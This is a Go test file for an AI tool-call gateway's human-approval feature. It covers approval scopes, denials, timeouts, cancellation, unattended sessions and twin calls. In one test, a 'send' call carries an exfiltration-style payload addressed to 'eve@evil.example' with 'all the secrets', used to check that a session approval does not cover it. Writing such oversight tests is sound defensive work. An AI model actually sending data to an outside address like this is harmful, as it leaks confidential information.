package gateway

import (
	"context"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aegis-mcp/aegis/internal/approval"
	"github.com/aegis-mcp/aegis/internal/capability"
	"github.com/aegis-mcp/aegis/internal/policy"
	"github.com/aegis-mcp/aegis/internal/record"
)

// syncLog is a memLog safe for concurrent use.
type syncLog struct {
	mu sync.Mutex
	memLog
}

func (l *syncLog) Append(ctx context.Context, e *record.Entry) (uint64, [32]byte, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.memLog.Append(ctx, e)
}

func (l *syncLog) last() *record.Entry {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.entries[len(l.entries)-1]
}

// approvalSession is a session of the filesystem server under
// testdata/subtree.yaml (writes under /home/a/projects/shared ask), whose
// asks wait in a store at path; each question is sent on asked.
func approvalSession(t *testing.T, path string, timeout time.Duration) (*Session, *syncLog, chan *approval.Request) {
	t.Helper()
	st, err := approval.Open(path, &approval.Options{Poll: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	asked := make(chan *approval.Request, 8)
	log := &syncLog{}
	s, err := subtreeEngine(t).NewSession(&SessionConfig{
		Server: "fs", ID: "sess", Principal: "alice", Origin: capability.Interactive, Log: log,
		Approvals: &Approvals{Store: st, Timeout: timeout, Asked: func(r *approval.Request) func() { asked <- r; return nil }},
	})
	if err != nil {
		t.Fatal(err)
	}
	return s, log, asked
}

// TestApprove: an ask holds the call until a person answers through
// another process's store; the answer (or none) decides, and is recorded
// after the ask, naming it.
func TestApprove(t *testing.T) {
	const shared = `{"path":"/home/a/projects/shared/x","content":"hi"}`
	for _, tt := range []struct {
		name    string
		answer  *approval.Answer // nil: nobody answers
		cancel  bool             // the client cancels the call
		forward bool
		reason  string // in the refusal the model reads
		entry   string // in the approval's entry
	}{
		{"approved", &approval.Answer{Approve: true, Scope: approval.ScopeCall, By: "bob", Channel: approval.ChannelCLI}, false, true, "", "approved by bob through cli, for this call"},
		{"denied", &approval.Answer{Approve: false, By: "bob", Channel: approval.ChannelCLI}, false, false, "a person (bob) declined this call", "denied by bob through cli"},
		{"nobody answers", nil, false, false, "nobody answered within", "was not answered within"},
		{"the client cancels", nil, true, false, "cancelled while it waited", "cancelled while the ask"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "approvals.db")
			timeout := time.Minute
			if tt.answer == nil && !tt.cancel {
				timeout = 50 * time.Millisecond
			}
			s, log, asked := approvalSession(t, path, timeout)
			cli, err := approval.Open(path, nil)
			if err != nil {
				t.Fatal(err)
			}
			defer cli.Close()
			// The answer is written before Answer reads it back, so the call
			// may end first: wait for the person's side before closing cli.
			answered := make(chan struct{})
			defer func() { <-answered }()
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			go func() {
				defer close(answered)
				var r *approval.Request
				select {
				case r = <-asked:
				case <-ctx.Done(): // the test ended without an ask
					return
				}
				if tt.cancel {
					cancel()
					return
				}
				if tt.answer != nil {
					if _, err := cli.Answer(context.Background(), r.ID[:8], *tt.answer); err != nil {
						t.Error(err)
					}
				}
			}()
			o, err := s.Call(ctx, "write_file", []byte(shared))
			if err != nil {
				t.Fatal(err)
			}
			if o.Forward != tt.forward || !strings.Contains(o.Reason, tt.reason) {
				t.Errorf("outcome %+v, want forward %v, reason with %q", o, tt.forward, tt.reason)
			}
			if len(log.entries) != 2 {
				t.Fatalf("%d entries, want the ask and its answer", len(log.entries))
			}
			ask, ans := log.entries[0], log.entries[1]
			if ask.Decision != "ask" || ans.Rules[0] != RuleApproval || !strings.Contains(ans.Reason, "seq 1") || !strings.Contains(ans.Reason, tt.entry) {
				t.Errorf("entries: ask %s %v; answer %s %v %q", ask.Decision, ask.Rules, ans.Decision, ans.Rules, ans.Reason)
			}
			if want := map[bool]string{true: "allow", false: "deny"}[tt.forward]; ans.Decision != want || len(ans.Caps) != 1 {
				t.Errorf("answer entry decision %s caps %v, want %s and the call's capability", ans.Decision, ans.Caps, want)
			}
			// Nothing is left to answer: the approval was taken, denied
			// or expired with its call.
			if pending, err := cli.List(context.Background(), false); err != nil || len(pending) != 0 {
				t.Errorf("pending after the call: %v %v", pending, err)
			}
		})
	}
}

// TestApproveScopes: an approval for this call answers only it; one for
// the session also answers later asks of the same tool whose capabilities
// are among its own, and nothing wider.
func TestApproveScopes(t *testing.T) {
	path := filepath.Join(t.TempDir(), "approvals.db")
	s, log, asked := approvalSession(t, path, time.Minute)
	cli, err := approval.Open(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	// Each answer is written before Answer reads it back, so its call may
	// end first: the person's side is waited for before cli is closed.
	var answering sync.WaitGroup
	defer answering.Wait()
	answer := func(scope approval.Scope) {
		answering.Add(1)
		go func() {
			defer answering.Done()
			var r *approval.Request
			select {
			case r = <-asked:
			case <-time.After(time.Minute): // the test failed before its ask
				return
			}
			if _, err := cli.Answer(context.Background(), r.ID, approval.Answer{Approve: true, Scope: scope, By: "bob", Channel: approval.ChannelCLI}); err != nil {
				t.Error(err)
			}
		}()
	}
	call := func(args string) Outcome {
		t.Helper()
		o, err := s.Call(context.Background(), "write_file", []byte(args))
		if err != nil {
			t.Fatal(err)
		}
		return o
	}
	x := `{"path":"/home/a/projects/shared/x","content":"1"}`
	y := `{"path":"/home/a/projects/shared/y","content":"1"}`
	answer(approval.ScopeCall)
	if o := call(x); !o.Forward {
		t.Fatalf("first call refused: %s", o.Reason)
	}
	// The same call again is asked again: the approval was for one call.
	answer(approval.ScopeSession)
	if o := call(x); !o.Forward {
		t.Fatalf("second call refused: %s", o.Reason)
	}
	// Now x is approved for the session: asked of nobody, whatever the
	// content; y is not covered, and asks (nobody answers: cancelled).
	if o := call(strings.Replace(x, `"1"`, `"2"`, 1)); !o.Forward {
		t.Fatalf("x under the session's approval refused: %s", o.Reason)
	}
	if e := log.last(); e.Decision != "allow" || !strings.Contains(e.Reason, "for the rest of the session") {
		t.Errorf("the session's approval recorded as %s %q", e.Decision, e.Reason)
	}
	select {
	case r := <-asked:
		t.Fatalf("asked again for a call the session's approval covers: %+v", r)
	default:
	}
	ctx, cancel := context.WithCancel(context.Background())
	go func() { <-asked; cancel() }()
	o, err := s.Call(ctx, "write_file", []byte(y))
	if err != nil || o.Forward {
		t.Errorf("y, not covered: %+v %v, want held and refused", o, err)
	}
	// Another session has no such approval.
	other, err := s.eng.NewSession(&SessionConfig{Server: "fs", ID: "other", Principal: "alice", Origin: capability.Interactive, Log: log,
		Approvals: &Approvals{Store: s.cfg.Approvals.Store, Timeout: 20 * time.Millisecond}})
	if err != nil {
		t.Fatal(err)
	}
	if o, err := other.Call(context.Background(), "write_file", []byte(x)); err != nil || o.Forward {
		t.Errorf("x in another session: %+v %v, want asked (and nobody answers)", o, err)
	}
}

// TestApproveUnattended: an unattended session holds nothing: the ask is
// declined at once.
func TestApproveUnattended(t *testing.T) {
	path := filepath.Join(t.TempDir(), "approvals.db")
	st, err := approval.Open(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	s, err := subtreeEngine(t).NewSession(&SessionConfig{
		Server: "fs", ID: "cron", Principal: "bot", Origin: capability.Unattended, Log: &syncLog{},
		Approvals: &Approvals{Store: st, Timeout: time.Hour},
	})
	if err != nil {
		t.Fatal(err)
	}
	o, err := s.Call(context.Background(), "write_file", []byte(`{"path":"/home/a/projects/shared/x","content":"1"}`))
	if err != nil || o.Forward || o.Effect != policy.Deny {
		t.Errorf("unattended ask: %+v %v, want declined at once", o, err)
	}
	if all, _ := st.List(context.Background(), true); len(all) != 0 {
		t.Errorf("an unattended session asked: %v", all)
	}
}

// TestApproveRacedByATwin: two identical calls held at once are two
// questions: approving one lets that one through and leaves the other
// waiting, to be answered on its own (here: it times out, refused).
func TestApproveRacedByATwin(t *testing.T) {
	path := filepath.Join(t.TempDir(), "approvals.db")
	s, _, asked := approvalSession(t, path, 3*time.Second)
	cli, err := approval.Open(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	const same = `{"path":"/home/a/projects/shared/x","content":"1"}`
	outs := make(chan Outcome, 2)
	for range 2 {
		go func() {
			o, err := s.Call(context.Background(), "write_file", []byte(same))
			if err != nil {
				t.Error(err)
			}
			outs <- o
		}()
	}
	first, second := <-asked, <-asked
	if first.ID == second.ID || first.ArgsHash != second.ArgsHash {
		t.Fatalf("two identical calls asked %s and %s (hashes %s, %s): want two questions about the same arguments", first.ID, second.ID, first.ArgsHash, second.ArgsHash)
	}
	if _, err := cli.Answer(context.Background(), first.ID, approval.Answer{Approve: true, Scope: approval.ScopeCall, By: "bob", Channel: approval.ChannelCLI}); err != nil {
		t.Fatal(err)
	}
	forwarded := 0
	for range 2 {
		if o := <-outs; o.Forward {
			forwarded++
		} else if !strings.Contains(o.Reason, "nobody answered") {
			t.Errorf("the unanswered twin: %q", o.Reason)
		}
	}
	if forwarded != 1 {
		t.Errorf("%d calls went through on one approval, want 1", forwarded)
	}
}

// TestApproveSessionUnbound: a call of a tool without bindings derives no
// capabilities, so a person who approved one for the session saw only its
// arguments: the grant covers the same call again, not every call of the
// tool.
func TestApproveSessionUnbound(t *testing.T) {
	asked := make(chan *approval.Request, 4)
	s, st := askingSession(t, "  - {id: ask-send, effect: ask, server: v, unbound: true, tool: send}\n",
		func(r *approval.Request) func() { asked <- r; return nil })
	ctx := context.Background()
	go func() {
		r := <-asked
		st.Answer(ctx, r.ID, approval.Answer{Approve: true, Scope: approval.ScopeSession, By: "bob", Channel: approval.ChannelCLI})
	}()
	const a, b = `{"to":"ann@example.org","body":"hi"}`, `{"to":"eve@evil.example","body":"all the secrets"}`
	if o, err := s.Call(ctx, "send", []byte(a)); err != nil || !o.Forward {
		t.Fatalf("the approved call: %+v %v", o, err)
	}
	if o, err := s.Call(ctx, "send", []byte(a)); err != nil || !o.Forward {
		t.Fatalf("the same call again, under the session's approval: %+v %v", o, err)
	}
	select {
	case r := <-asked:
		t.Fatalf("asked again for the approved call: %+v", r)
	default:
	}
	cctx, cancel := context.WithCancel(ctx)
	go func() { <-asked; cancel() }()
	if o, err := s.Call(cctx, "send", []byte(b)); err != nil || o.Forward {
		t.Fatalf("another call of the tool went under the session's approval: %+v %v", o, err)
	}
}

// askingSession is a session of server "v" (no bindings) under a policy
// of rules, whose asks wait in a store of its own; asked, if set, is told
// of each question.
func askingSession(t *testing.T, rules string, asked func(*approval.Request) func()) (*Session, *approval.Store) {
	t.Helper()
	p, err := policy.Parse("asking.yaml", []byte("version: 1\nrules:\n"+rules), nil)
	if err != nil {
		t.Fatal(err)
	}
	e, err := New(p, []*Server{{Name: "v"}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	st, err := approval.Open(filepath.Join(t.TempDir(), "approvals.db"), &approval.Options{Poll: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	s, err := e.NewSession(&SessionConfig{Server: "v", ID: "sess", Principal: "alice", Origin: capability.Interactive, Log: &syncLog{},
		Approvals: &Approvals{Store: st, Timeout: time.Minute, Asked: asked}})
	if err != nil {
		t.Fatal(err)
	}
	return s, st
}
